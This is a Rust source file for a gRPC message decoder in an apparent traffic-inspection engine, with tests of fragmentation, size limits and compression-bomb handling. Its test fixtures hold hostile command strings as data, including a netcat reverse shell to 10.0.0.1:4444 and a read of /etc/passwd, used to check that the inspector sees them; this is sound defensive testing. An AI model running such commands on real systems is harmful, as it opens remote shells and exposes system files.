//! Streaming decoder of gRPC length-prefixed messages.
//!
//! # Why
//!
//! A gRPC request body is a sequence of messages, each prefixed by one flag byte (bit 0 =
//! compressed with the stream's `grpc-encoding`) and a 4-byte big-endian length. The body
//! arrives in HTTP/2 DATA frames whose boundaries have nothing to do with message boundaries:
//! a prefix can be split over two frames, a frame can hold many messages. [`MessageDecoder`]
//! takes the body in whatever pieces it comes, reassembles each message, decompresses it if
//! its flag says so (with the bounds of [`crate::decode`]) and hands it to
//! [`protobuf::extract`], so every string in every message reaches the engine, however the
//! sender chose to fragment the stream.
//!
//! # Bounds
//!
//! * A message whose prefix announces more than `max_message` bytes is refused as soon as the
//!   prefix is read: [`Anomaly::GrpcFrameInvalid`] and [`ExtractError::Grpc`], and its bytes
//!   are skipped without being stored, so the messages after it are still inspected. gRPC
//!   servers reject such a message too (`RESOURCE_EXHAUSTED`), but the inspector must not
//!   buffer it to find out.
//! * The reassembly buffer grows with the bytes actually received (a prefix that *claims*
//!   4 MiB costs nothing until 4 MiB arrive) and never past `max_message`.
//! * A compressed message is inflated with `max_output = min(decode_limits.max_output,
//!   max_message)`; a bomb is [`Anomaly::CompressionBomb`] and an error, nothing more.
//! * [`ExtractLimits::max_fields`] bounds the whole stream, not each message; `max_depth`
//!   applies to each message.
//!
//! A flag byte other than 0 or 1, or a compressed message on a stream without a
//! `grpc-encoding`, desynchronises or invalidates the stream: it is reported once and the rest
//! of the stream is ignored (the raw bytes are still the caller's to scan).
//!
//! # Errors
//!
//! [`MessageDecoder::push`] processes *all* the data it is given and returns the first error
//! met in it, so the fields emitted do not depend on how the stream was split.
//! [`MessageDecoder::finish`] reports a stream that ends inside a message.

use picket_signatures::{Anomaly, Target};

use crate::decode::{self, ContentCoding, DecodeError, DecodeLimits};
use crate::fields::{ExtractError, ExtractLimits, FieldSink};
use crate::protobuf;

/// Default largest message, as in gRPC's own default receive limit.
pub const DEFAULT_MAX_MESSAGE: usize = 4 * 1024 * 1024;

/// Length of the message prefix: flag byte and 4-byte big-endian length.
pub const PREFIX_LEN: usize = 5;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    /// Reading the 5-byte prefix (`have` bytes of it so far).
    Prefix { have: usize },
    /// Reading a message of `len` bytes into the buffer.
    Message { compressed: bool, len: usize },
    /// Skipping the rest of an oversized message.
    Skip { remaining: usize },
    /// The stream cannot be followed any more; everything is ignored.
    Failed,
}

/// Reassembles and inspects the messages of one gRPC stream direction.
#[derive(Debug)]
pub struct MessageDecoder {
    coding: ContentCoding,
    max_message: usize,
    decode_limits: DecodeLimits,
    prefix: [u8; PREFIX_LEN],
    state: State,
    buf: Vec<u8>,
    fields: usize,
    messages: u64,
}

impl Default for MessageDecoder {
    /// Identity coding, [`DEFAULT_MAX_MESSAGE`], default [`DecodeLimits`].
    fn default() -> Self {
        MessageDecoder::new(
            ContentCoding::Identity,
            DEFAULT_MAX_MESSAGE,
            DecodeLimits::default(),
        )
    }
}

impl MessageDecoder {
    /// A decoder for a stream whose `grpc-encoding` is `coding` (identity when absent).
    pub fn new(coding: ContentCoding, max_message: usize, decode_limits: DecodeLimits) -> Self {
        MessageDecoder {
            coding,
            max_message,
            decode_limits,
            prefix: [0; PREFIX_LEN],
            state: State::Prefix { have: 0 },
            buf: Vec::new(),
            fields: 0,
            messages: 0,
        }
    }

    /// Complete messages seen so far (oversized ones included).
    pub fn messages(&self) -> u64 {
        self.messages
    }

    /// Bytes currently held for a partial message (at most `max_message`).
    pub fn buffered(&self) -> usize {
        self.buf.len()
    }

    /// Feeds the next piece of the stream. Every complete message in it is extracted into
    /// `sink`; the first error met is returned after all of `data` has been processed.
    pub fn push(
        &mut self,
        mut data: &[u8],
        limits: &ExtractLimits,
        sink: &mut dyn FieldSink,
    ) -> Result<(), ExtractError> {
        let mut first_err: Option<ExtractError> = None;
        let mut note = |r: Result<(), ExtractError>| {
            if let Err(e) = r {
                first_err.get_or_insert(e);
            }
        };
        while !data.is_empty() {
            match self.state {
                State::Failed => break,
                State::Prefix { have } => {
                    let take = (PREFIX_LEN - have).min(data.len());
                    let (head, rest) = data.split_at(take);
                    if let Some(dst) = self.prefix.get_mut(have..have + take) {
                        dst.copy_from_slice(head);
                    }
                    data = rest;
                    let have = have + take;
                    if have < PREFIX_LEN {
                        self.state = State::Prefix { have };
                        continue;
                    }
                    note(self.start_message(limits, sink));
                }
                State::Message { compressed, len } => {
                    let take = (len - self.buf.len()).min(data.len());
                    let (head, rest) = data.split_at(take);
                    data = rest;
                    self.append(head, len);
                    if self.buf.len() == len {
                        note(self.complete(compressed, limits, sink));
                    }
                }
                State::Skip { remaining } => {
                    let take = remaining.min(data.len());
                    data = data.get(take..).unwrap_or_default();
                    self.state = if remaining == take {
                        State::Prefix { have: 0 }
                    } else {
                        State::Skip {
                            remaining: remaining - take,
                        }
                    };
                }
            }
        }
        match first_err {
            Some(e) => Err(e),
            None => Ok(()),
        }
    }

    /// Ends the stream: an error (and [`Anomaly::GrpcFrameInvalid`]) if it stopped inside a
    /// prefix or a message. The decoder is then ready for a new stream.
    pub fn finish(&mut self, sink: &mut dyn FieldSink) -> Result<(), ExtractError> {
        let truncated = match self.state {
            State::Prefix { have } => have > 0,
            State::Message { .. } | State::Skip { .. } => true,
            State::Failed => false,
        };
        self.state = State::Prefix { have: 0 };
        self.buf = Vec::new();
        self.fields = 0;
        if truncated {
            sink.anomaly(Anomaly::GrpcFrameInvalid);
            return Err(ExtractError::Grpc {
                reason: "stream ended inside a length-prefixed message",
            });
        }
        Ok(())
    }

    /// The prefix is complete: decide what to do with the message it announces.
    fn start_message(
        &mut self,
        limits: &ExtractLimits,
        sink: &mut dyn FieldSink,
    ) -> Result<(), ExtractError> {
        let [flag, a, b, c, d] = self.prefix;
        let len = u32::from_be_bytes([a, b, c, d]);
        let len = usize::try_from(len).unwrap_or(usize::MAX);
        self.state = State::Prefix { have: 0 };
        if flag > 1 {
            self.state = State::Failed;
            sink.anomaly(Anomaly::GrpcFrameInvalid);
            return Err(ExtractError::Grpc {
                reason: "invalid message flag byte",
            });
        }
        let compressed = flag == 1;
        if compressed && self.coding == ContentCoding::Identity {
            self.state = State::Failed;
            sink.anomaly(Anomaly::GrpcFrameInvalid);
            return Err(ExtractError::Grpc {
                reason: "compressed message on a stream without grpc-encoding",
            });
        }
        if len > self.max_message {
            self.messages += 1;
            self.state = State::Skip { remaining: len };
            sink.anomaly(Anomaly::GrpcFrameInvalid);
            return Err(ExtractError::Grpc {
                reason: "message larger than the maximum message size",
            });
        }
        self.buf.clear();
        if len == 0 {
            return self.complete(compressed, limits, sink);
        }
        self.state = State::Message { compressed, len };
        Ok(())
    }

    /// Appends to the message buffer without letting `Vec` grow its capacity past `len`.
    fn append(&mut self, data: &[u8], len: usize) {
        let need = self.buf.len() + data.len();
        if need > self.buf.capacity() {
            let want = self.buf.capacity().saturating_mul(2).max(need).min(len);
            self.buf.reserve_exact(want.saturating_sub(self.buf.len()));
        }
        self.buf.extend_from_slice(data);
    }

    /// A whole message is in the buffer: decompress if needed, extract, reset.
    fn complete(
        &mut self,
        compressed: bool,
        limits: &ExtractLimits,
        sink: &mut dyn FieldSink,
    ) -> Result<(), ExtractError> {
        self.state = State::Prefix { have: 0 };
        self.messages += 1;
        let buf = std::mem::take(&mut self.buf);
        let result = if compressed {
            let dl = DecodeLimits {
                max_output: self.decode_limits.max_output.min(self.max_message),
                ..self.decode_limits
            };
            match decode::decode(&[self.coding], &buf, &dl) {
                Ok(plain) => self.extract(&plain, limits, sink),
                Err(e) => {
                    sink.anomaly(e.anomaly());
                    Err(ExtractError::Grpc {
                        reason: match e {
                            DecodeError::Bomb { .. } => {
                                "compressed message inflates past the size or ratio limit"
                            }
                            _ => "compressed message does not decode",
                        },
                    })
                }
            }
        } else {
            self.extract(&buf, limits, sink)
        };
        // Keep the allocation for the next message (it is at most max_message).
        self.buf = buf;
        self.buf.clear();
        result
    }

    fn extract(
        &mut self,
        msg: &[u8],
        limits: &ExtractLimits,
        sink: &mut dyn FieldSink,
    ) -> Result<(), ExtractError> {
        let remaining = limits.max_fields.saturating_sub(self.fields);
        let per_message = ExtractLimits {
            max_depth: limits.max_depth,
            max_fields: remaining,
        };
        let mut counting = Counting { inner: sink, n: 0 };
        let r = protobuf::extract(msg, &per_message, &mut counting);
        self.fields += counting.n;
        match r {
            Err(ExtractError::TooManyFields { .. }) => Err(ExtractError::TooManyFields {
                limit: limits.max_fields,
            }),
            other => other,
        }
    }
}

struct Counting<'a> {
    inner: &'a mut dyn FieldSink,
    n: usize,
}

impl FieldSink for Counting<'_> {
    fn field(&mut self, target: Target, name: &[u8], value: &[u8]) {
        self.n += 1;
        self.inner.field(target, name, value);
    }

    fn anomaly(&mut self, anomaly: Anomaly) {
        self.inner.anomaly(anomaly);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::write::GzEncoder;
    use flate2::Compression;
    use proptest::prelude::*;
    use std::io::Write;

    #[derive(Default, Debug, PartialEq)]
    struct Collect {
        fields: Vec<(String, Vec<u8>)>,
        anomalies: Vec<Anomaly>,
    }

    impl FieldSink for Collect {
        fn field(&mut self, t: Target, n: &[u8], v: &[u8]) {
            assert_eq!(t, Target::GrpcString);
            self.fields
                .push((String::from_utf8_lossy(n).into_owned(), v.to_vec()));
        }
        fn anomaly(&mut self, a: Anomaly) {
            self.anomalies.push(a);
        }
    }

    /// protobuf: field 1 = string, field 2 = { field 1: varint, field 2: string }
    fn message(s1: &[u8], s2: &[u8]) -> Vec<u8> {
        let mut inner = vec![0x08, 0x2a, 0x12, s2.len() as u8];
        inner.extend_from_slice(s2);
        let mut m = vec![0x0a, s1.len() as u8];
        m.extend_from_slice(s1);
        m.push(0x12);
        m.push(inner.len() as u8);
        m.extend_from_slice(&inner);
        m
    }

    fn frame(flag: u8, msg: &[u8]) -> Vec<u8> {
        let mut f = vec![flag];
        f.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        f.extend_from_slice(msg);
        f
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = GzEncoder::new(Vec::new(), Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn stream() -> Vec<u8> {
        let mut s = frame(0, &message(b"ExecRequest", b"/bin/sh -c id"));
        s.extend(frame(0, b""));
        s.extend(frame(0, &message(b"second", b"cat /etc/passwd")));
        s
    }

    fn feed(dec: &mut MessageDecoder, pieces: &[&[u8]]) -> (Collect, Vec<ExtractError>) {
        let mut c = Collect::default();
        let mut errs = Vec::new();
        for p in pieces {
            if let Err(e) = dec.push(p, &ExtractLimits::default(), &mut c) {
                errs.push(e);
            }
        }
        if let Err(e) = dec.finish(&mut c) {
            errs.push(e);
        }
        (c, errs)
    }

    #[test]
    fn whole_stream_at_once() {
        let s = stream();
        let (c, errs) = feed(&mut MessageDecoder::default(), &[&s]);
        assert!(errs.is_empty(), "{errs:?}");
        assert!(c
            .fields
            .contains(&("2.2".into(), b"/bin/sh -c id".to_vec())));
        assert!(c
            .fields
            .contains(&("2.2".into(), b"cat /etc/passwd".to_vec())));
        assert!(c.fields.contains(&("1".into(), b"ExecRequest".to_vec())));
    }

    #[test]
    fn one_byte_at_a_time() {
        let s = stream();
        let (whole, _) = feed(&mut MessageDecoder::default(), &[&s]);
        let mut dec = MessageDecoder::default();
        let pieces: Vec<&[u8]> = s.chunks(1).collect();
        let (bytewise, errs) = feed(&mut dec, &pieces);
        assert!(errs.is_empty());
        assert_eq!(whole, bytewise);
        assert_eq!(dec.messages(), 3);
    }

    #[test]
    fn compressed_messages() {
        let plain = message(b"zipped", b"nc -e /bin/sh 10.0.0.1 4444");
        let mut s = frame(1, &gzip(&plain));
        s.extend(frame(0, &plain));
        let mut dec = MessageDecoder::new(
            ContentCoding::Gzip,
            DEFAULT_MAX_MESSAGE,
            DecodeLimits::default(),
        );
        let (c, errs) = feed(&mut dec, &[&s]);
        assert!(errs.is_empty(), "{errs:?}");
        let n = c
            .fields
            .iter()
            .filter(|(_, v)| v == b"nc -e /bin/sh 10.0.0.1 4444")
            .count();
        assert_eq!(n, 2);
    }

    #[test]
    fn compressed_bomb_in_a_message() {
        let bomb = gzip(&vec![0u8; 8 << 20]);
        let mut s = frame(1, &bomb);
        s.extend(frame(0, &message(b"after", b"the bomb")));
        let mut dec = MessageDecoder::new(ContentCoding::Gzip, 1 << 20, DecodeLimits::default());
        let (c, errs) = feed(&mut dec, &[&s]);
        assert_eq!(c.anomalies, vec![Anomaly::CompressionBomb]);
        assert!(
            matches!(errs.as_slice(), [ExtractError::Grpc { .. }]),
            "{errs:?}"
        );
        assert!(c.fields.iter().any(|(_, v)| v == b"the bomb"));
    }

    #[test]
    fn compressed_flag_without_encoding() {
        let s = frame(1, &gzip(b"x"));
        let (c, errs) = feed(&mut MessageDecoder::default(), &[&s]);
        assert_eq!(c.anomalies, vec![Anomaly::GrpcFrameInvalid]);
        assert_eq!(errs.len(), 1);
    }

    #[test]
    fn oversized_message_is_skipped_not_buffered() {
        let big = message(&[b'a'; 100], &[b'b'; 100]);
        let mut s = frame(0, &big);
        s.extend(frame(0, &message(b"small", b"next message")));
        let mut dec = MessageDecoder::new(ContentCoding::Identity, 64, DecodeLimits::default());
        let mut c = Collect::default();
        for piece in s.chunks(7) {
            let _ = dec.push(piece, &ExtractLimits::default(), &mut c);
            assert!(dec.buffered() <= 64);
            assert!(dec.buf.capacity() <= 64);
        }
        assert_eq!(dec.finish(&mut c), Ok(()));
        assert_eq!(c.anomalies, vec![Anomaly::GrpcFrameInvalid]);
        assert!(c.fields.iter().any(|(_, v)| v == b"next message"));
        assert!(!c.fields.iter().any(|(_, v)| v.starts_with(b"aaaa")));
    }

    #[test]
    fn claimed_length_costs_nothing_until_it_arrives() {
        let mut dec = MessageDecoder::default();
        let mut c = Collect::default();
        dec.push(
            &[0, 0, 0x3f, 0xff, 0xff, 1, 2],
            &ExtractLimits::default(),
            &mut c,
        )
        .unwrap();
        assert!(dec.buf.capacity() < 1024);
    }

    #[test]
    fn truncated_streams() {
        for cut in [1, 4, 5, 8] {
            let s = stream();
            let (c, errs) = feed(&mut MessageDecoder::default(), &[&s[..cut]]);
            assert_eq!(c.anomalies, vec![Anomaly::GrpcFrameInvalid], "cut {cut}");
            assert_eq!(
                errs,
                vec![ExtractError::Grpc {
                    reason: "stream ended inside a length-prefixed message"
                }]
            );
        }
        let (c, errs) = feed(&mut MessageDecoder::default(), &[b""]);
        assert!(errs.is_empty() && c.anomalies.is_empty());
    }

    #[test]
    fn bad_flag_stops_the_stream() {
        let mut s = frame(0x80, b"junk");
        s.extend(frame(0, &message(b"ignored", b"ignored")));
        let (c, errs) = feed(&mut MessageDecoder::default(), &[&s]);
        assert_eq!(c.anomalies, vec![Anomaly::GrpcFrameInvalid]);
        assert_eq!(errs.len(), 1);
        assert!(c.fields.is_empty());
    }

    #[test]
    fn field_limit_spans_the_stream() {
        let s = stream();
        let limits = ExtractLimits {
            max_depth: 8,
            max_fields: 3,
        };
        let mut dec = MessageDecoder::default();
        let mut c = Collect::default();
        let r = dec.push(&s, &limits, &mut c);
        assert_eq!(r, Err(ExtractError::TooManyFields { limit: 3 }));
        assert_eq!(c.fields.len(), 3);
    }

    #[test]
    fn bad_protobuf_does_not_stop_later_messages() {
        let mut s = frame(0, &[0x0a, 0x7f]);
        s.extend(frame(0, &message(b"still", b"inspected")));
        let (c, errs) = feed(&mut MessageDecoder::default(), &[&s]);
        assert!(matches!(errs.as_slice(), [ExtractError::Protobuf { .. }]));
        assert!(c.fields.iter().any(|(_, v)| v == b"inspected"));
    }

    proptest! {
        #[test]
        fn same_fields_whatever_the_split(
            strings in prop::collection::vec(("[ -~]{0,40}", "[ -~]{0,40}"), 1..6),
            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
            compress in any::<bool>(),
        ) {
            let mut s = Vec::new();
            for (a, b) in &strings {
                let m = message(a.as_bytes(), b.as_bytes());
                if compress {
                    s.extend(frame(1, &gzip(&m)));
                } else {
                    s.extend(frame(0, &m));
                }
            }
            let coding = if compress { ContentCoding::Gzip } else { ContentCoding::Identity };
            let new = || MessageDecoder::new(coding, DEFAULT_MAX_MESSAGE, DecodeLimits::default());
            let (whole, errs) = feed(&mut new(), &[&s]);
            prop_assert!(errs.is_empty(), "{:?}", errs);
            let mut points: Vec<usize> = cuts.iter().map(|i| i.index(s.len() + 1)).collect();
            points.sort_unstable();
            let mut pieces: Vec<&[u8]> = Vec::new();
            let mut last = 0;
            for p in points {
                pieces.push(&s[last..p]);
                last = p;
            }
            pieces.push(&s[last..]);
            let (split, errs) = feed(&mut new(), &pieces);
            prop_assert!(errs.is_empty());
            prop_assert_eq!(&whole, &split);
            for (a, b) in &strings {
                if !a.is_empty() {
                    prop_assert!(whole.fields.iter().any(|(n, v)| n == "1" && v == a.as_bytes()));
                }
                if !b.is_empty() {
                    prop_assert!(whole.fields.iter().any(|(n, v)| n == "2.2" && v == b.as_bytes()));
                }
            }
        }

        #[test]
        fn never_panics(data in prop::collection::vec(any::<u8>(), 0..512), step in 1usize..17) {
            let mut dec = MessageDecoder::new(ContentCoding::Gzip, 256, DecodeLimits::default());
            let mut c = Collect::default();
            for piece in data.chunks(step) {
                let _ = dec.push(piece, &ExtractLimits::default(), &mut c);
                prop_assert!(dec.buf.capacity() <= 256);
            }
            let _ = dec.finish(&mut c);
        }
    }
}
